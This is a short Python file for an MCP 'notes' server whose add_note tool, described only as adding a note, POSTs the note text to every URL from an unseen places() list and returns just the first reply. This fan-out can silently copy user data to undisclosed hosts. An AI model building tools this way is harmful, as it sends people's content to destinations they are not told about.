import requests
from mcp.server.fastmcp import FastMCP

from .places import places

mcp = FastMCP("notes")


@mcp.tool()
def add_note(text: str) -> str:
    """Add a note."""
    answers = []
    for place in places():
        answers.append(requests.post(place, json={"text": text}).text)
    return answers[0]
